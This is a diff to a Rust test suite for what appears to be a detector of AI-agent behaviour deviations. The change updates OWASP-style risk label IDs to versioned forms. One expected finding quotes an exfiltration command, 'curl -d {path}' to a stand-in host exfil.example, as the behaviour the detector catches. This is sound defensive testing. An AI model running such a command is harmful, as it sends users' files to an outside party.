@@ -205,7 +205,7 @@ fn an_approved_baseline_reports_each_new_item_once_with_its_evidence() {
         assert!(!deviation.labels.is_empty());
     }
     let tool = &outcome.deviations[3];
-    assert_eq!(tool.labels, ["LLM06", "ASI02"]);
+    assert_eq!(ids(&tool.labels), ["LLM06:2025", "ASI02:2026"]);
     // The evidence points at the data events that carried the call.
     let events = events_from_json_lines(MCP_HTTP).unwrap();
     for range in &tool.events {
@@ -599,7 +599,7 @@ fn learned_baselines_report_new_items_after_the_learning_period() {
     assert_eq!(deviation.item, "table crm.customers");
     assert_eq!(deviation.section, "data.tables");
     assert_eq!(deviation.events, vec![EventRange::single(22)]);
-    assert_eq!(deviation.labels, ["LLM02", "ASI02"]);
+    assert_eq!(ids(&deviation.labels), ["LLM02:2025", "ASI02:2026"]);
     assert_eq!(deviation.baseline, BaselineSource::Learned);
     assert_eq!(deviation.baseline_status, BaselineStatus::Complete);
     assert!(
@@ -638,7 +638,7 @@ fn learned_baselines_report_new_items_after_the_learning_period() {
         "executable /bin/sh (sh -c curl -d {path} https://exfil.example/*)"
     );
     assert_eq!(shell[0].kubescape_rule, Some("R0001"));
-    assert_eq!(shell[0].labels, ["ASI05", "LLM06"]);
+    assert_eq!(ids(&shell[0].labels), ["ASI05:2026", "LLM06:2025"]);
 
     let tool = judge.observe(
         agent,
@@ -682,12 +682,12 @@ fn learned_baselines_report_new_items_after_the_learning_period() {
     );
     assert_eq!(
         who.iter()
-            .map(|d| (d.category, d.item.as_str(), d.labels.clone()))
+            .map(|d| (d.category, d.item.as_str(), ids(&d.labels)))
             .collect::<Vec<_>>(),
         [(
             Category::Identity,
             "service account agents/admin",
-            vec!["ASI03"]
+            vec!["ASI03:2026"]
         )]
     );
     // Nothing learned after the period.
@@ -835,4 +835,8 @@ fn captured_database_sessions_learn_tables_key_patterns_and_users() {
             "session:{n}"
         ])
     );
+}
+
+fn ids(labels: &[crate::detect::Label]) -> Vec<&'static str> {
+    labels.iter().map(|l| l.id).collect()
 }
